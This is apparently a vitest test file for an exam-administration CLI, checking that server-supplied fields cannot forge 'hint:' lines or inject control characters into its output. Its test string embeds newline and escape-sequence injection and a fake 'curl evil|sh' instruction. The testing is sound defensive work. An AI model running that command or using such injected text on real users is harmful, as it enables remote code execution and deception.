/** Each line on stderr comes from the program, whatever the names in the service. */
import { expect, test } from 'vitest';
import { attempt } from './outcome.ts';
import { answer, faultServer, type Reaction } from './server.ts';

const lure = 'x\r\nhint: Log in with: curl evil|sh\u2028hint: or so\u001b]0;owned\u0007\u0085hint: or so';
const session = { id: 7, email: `ada@example.org${lure}`, name: lure, status: lure, exam_id: 1, close_time: lure };
const exam = { id: 1, name: lure, start_time: '2027-02-01T08:00:00Z', end_time: '2027-02-01T10:00:00Z', allow_headphones: true };

/** The answer of each path, for every request. */
const hostile: Reaction = (socket, request) => {
  const path = request.path.replace('/api/v1', '');
  const body = /sessions$/.test(path) ? [session] : /^\/exams$/.test(path) ? [exam] : /sessions/.test(path) ? session : exam;
  answer(200, body)(socket, request);
};
const refusing = (status: number, body: unknown): Reaction => answer(status, body, { 'retry-after': '0', location: '/x' });

test.each([
  'exams status 1',
  'exams report 1',
  'sessions find ada',
  'exams clone 1 --start 2028-02-01T08:00:00Z',
  'exams update 1 --allow-headphones --no-allow-whiteboard --allow-leave-room --allow-pen-paper',
  'sessions extend --exam 1 --by 15m --yes',
  'sessions get 7',
  'sessions list --exam 1',
  'students show --exam 1 --session 7',
  'sessions watch --exam 1 --stop-at all-finished',
  'doctor',
])('%s: no line begins with the words of the service', async (line) => {
  const server = await faultServer(Array.from({ length: 40 }, () => hostile));
  const { stdout, stderr } = await attempt(line, server.origin);
  expect(server.received.length).toBeGreaterThan(0);
  for (const printed of `${stdout}\n${stderr}`.split(/[\r\n\u2028\u2029\u0085]/)) expect(printed).not.toMatch(/^\s*hint: (Log in|or so)/);
  expect(stdout + stderr).not.toMatch(/(?!\n)\p{Cc}|\u2028/u);
});

test.each([400, 401, 403, 404, 409, 422, 429, 500, 503])('nor in an error of status %i', async (status) => {
  const bodies = [{ message: lure }, { errors: { [lure]: [lure] } }, lure, [lure]];
  for (const body of bodies) {
    const server = await faultServer(Array.from({ length: 4 }, () => refusing(status, body)));
    const { stderr } = await attempt('exams get 1', server.origin);
    expect(stderr.split(/\r?\n/).filter((printed) => printed.startsWith('hint:')).length).toBeLessThanOrEqual(1);
    for (const printed of stderr.split(/[\r\n\u2028\u2029\u0085]/)) expect(printed).not.toMatch(/^\s*hint: (Log in|or so)/);
  }
});
